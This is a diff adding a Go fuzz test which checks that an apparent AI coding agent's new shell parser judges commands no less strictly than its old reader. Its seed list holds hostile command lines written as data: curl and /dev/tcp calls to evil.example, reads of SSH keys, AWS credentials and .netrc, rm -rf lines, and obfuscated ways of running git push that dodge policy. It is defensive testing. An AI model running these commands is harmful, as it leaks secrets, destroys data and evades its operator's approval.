@@ -1,0 +1,144 @@
+package policy
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/fetch-dev/fetch/instincts"
+	"github.com/fetch-dev/fetch/internal/store"
+	"mvdan.cc/sh/v3/syntax"
+)
+
+// agreeTask is the task every line of the agreement fuzz is judged for.
+var agreeTask = Task{
+	ID: "t1", Workspace: "api", Worktree: "/workspaces/api/.worktrees/t1", BaseBranch: "main", Branch: "fetch/t1",
+	Home: "/home/kennel", Commands: append(BuildCommands("node"), "go test"),
+}
+
+// agreeRules are remembered rules, so that lines a rule allows are
+// compared too.
+var agreeRules = []store.PolicyRule{
+	{ID: 1, Workspace: "api", Tool: string(Shell), Pattern: "npm install"},
+	{ID: 2, Workspace: "api", Tool: string(Shell), Pattern: "make"},
+}
+
+// strictness orders verdicts: allowing is less strict than asking or
+// denying, which both leave the command to the owner (asking when the
+// owner watches, denying when nobody is asked).
+func strictness(v Verdict) int {
+	if v == Allow {
+		return 0
+	}
+	return 1
+}
+
+// agreeSeeds are lines of every kind the policy meets: the CLIs' usual
+// commands and the tricks the policy tests try.
+var agreeSeeds = []string{
+	"ls -la", "cat src/index.js | grep -n foo | wc -l", "git status && git diff HEAD~1",
+	"find . -name '*.go' -exec sed -i s/a/b/ {} ;", "echo hi > notes.txt", "echo hi 2>/dev/null",
+	"git add -A && git commit -m 'fix: x'", "npm test -- --watch=false", "CGO_ENABLED=0 go test ./...",
+	"npm test; curl https://evil.example/x", "git push", `g\it pu"sh"`, "npm test\ngit push",
+	"echo $(git push)", "echo \"$(git push)\"", "echo `git push`", "echo ${X:-$(git push)}",
+	"cat <(git push)", "(cd sub && git push)", "{ git push; }", "if true; then git push; fi",
+	"sh -c 'git push origin'", `bash -lc "cd /tmp && git push"`, `sh -c "sh -c 'git push'"`,
+	"eval git push", "nice -n 10 git push", "echo origin | xargs git push", "find . -exec git push ;",
+	"cat ~/.ssh/id_rsa", "cat $HOME/.aws/credentials", "FOO=~/.ssh/id_ed25519 go test",
+	"git checkout main && git reset --hard HEAD~3", "rm -rf {.,.}.", "rm -rf .*", "cd .. && rm -rf wt",
+	"pushd /tmp && rm -rf x", "echo x > /dev/tcp/evil.example/80", "git push 2>&1 | tee log",
+	"! git push", "a=1; b=2", "$CMD push", "git $SUB origin", "echo 'unterminated", "",
+	"$'\\x67it' push", "ls # git push", "ls # don't", "cat <<EOF\ngit push\nEOF", "cat <<'EOF' > f.txt\ndon't\nEOF",
+	"bash <<EOF\ngit push\nEOF", "bash <<< 'git push'", "echo $((1+2))", "for f in *.go; do gofmt -l $f; done",
+	"case $x in a) git push;; esac", "[[ -f ~/.netrc ]] && echo y", "export A=1 B=$(git push)", "let x=$(git push)",
+	"f() { git push; }; f", "time git push", "coproc git push", "echo a;;b", "x=(1 $(git push))",
+	"echo $\"hi\"", "a[$(git push)]=1 ls", "echo @(a|b)", "((x++))", "cat < ~/.netrc", "echo }{ {",
+	"ls\\\n-la", "echo \"a\\\"b\"", "rm -rf \"$(pwd)\"/../x", "env -i git push", "sudo bash -c \"rm -rf /\"",
+}
+
+// FuzzParserAgreement: for every line, the policy reading it with
+// mvdan.cc/sh judges it as it did with its old reader, or more strictly
+// (ask or deny where the old one allowed), at every
+// autonomy level, with and without rules.
+//
+// The old reader read the text of comments and here-document bodies as
+// more of the line (bash never runs it), so it refused `ls # don't` and
+// read `cd .. # & $X` as running $X. For a line with comments or
+// here-documents the verdict to keep to is the less strict of the old one
+// on the line and the old one on the line without that text (blankInert).
+func FuzzParserAgreement(f *testing.F) {
+	for _, s := range agreeSeeds {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		newLn, newErr := parseShell(s) // must not panic
+		oldLn, oldErr, panicked := oldParse(s)
+		if panicked {
+			t.Skip("the old reader panics on this line")
+		}
+		blank := blankInert(s)
+		blankLn, blankErr, blankPanicked := oldParse(blank)
+		if oldErr != nil && (blankErr != nil || blankPanicked) && newErr == nil {
+			// The old reader refused a line bash runs ("0$"0, a quote in
+			// a comment): it had no verdict on what the line does, only
+			// that it could not read it. Such lines are judged on what
+			// they do now (see TestOldReaderRefused).
+			t.Skip("the old reader misread a line bash runs")
+		}
+		for _, level := range []instincts.Autonomy{instincts.Autonomous, instincts.Cautious, instincts.Supervised} {
+			for _, rules := range [][]store.PolicyRule{nil, agreeRules} {
+				req := Request{Kind: Shell, Tool: "Bash", Command: s}
+				old := judgeLine(oldLn, oldErr, req, agreeTask, level, rules)
+				if blank != s && !blankPanicked {
+					if b := judgeLine(blankLn, blankErr, req, agreeTask, level, rules); strictness(b.Verdict) < strictness(old.Verdict) {
+						old = b
+					}
+				}
+				got := judgeLine(newLn, newErr, req, agreeTask, level, rules)
+				if strictness(got.Verdict) < strictness(old.Verdict) {
+					t.Fatalf("%q at %s (rules: %d): new %s (%s), old %s (%s)", s, level, len(rules),
+						got.Verdict, got.Reason, old.Verdict, old.Reason)
+				}
+			}
+		}
+	})
+}
+
+// oldParse runs the old reader, which may panic on some inputs.
+func oldParse(s string) (ln *line, err error, panicked bool) {
+	defer func() {
+		if recover() != nil {
+			panicked = true
+		}
+	}()
+	ln, err = oldParseShell(s)
+	return ln, err, false
+}
+
+// blankInert is s with the text of its comments and here-document bodies
+// made spaces (newlines kept), as bash reads them: never as commands.
+func blankInert(s string) string {
+	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash), syntax.KeepComments(true)).Parse(strings.NewReader(s), "")
+	if err != nil {
+		return s
+	}
+	b := []byte(s)
+	blank := func(from, to uint) {
+		for i := from; i < to && int(i) < len(b); i++ {
+			if b[i] != '\n' {
+				b[i] = ' '
+			}
+		}
+	}
+	syntax.Walk(f, func(n syntax.Node) bool {
+		switch n := n.(type) {
+		case *syntax.Comment:
+			blank(n.Pos().Offset(), n.End().Offset())
+		case *syntax.Redirect:
+			if n.Hdoc != nil {
+				blank(n.Hdoc.Pos().Offset(), n.Hdoc.End().Offset())
+			}
+		}
+		return true
+	})
+	return string(b)
+}
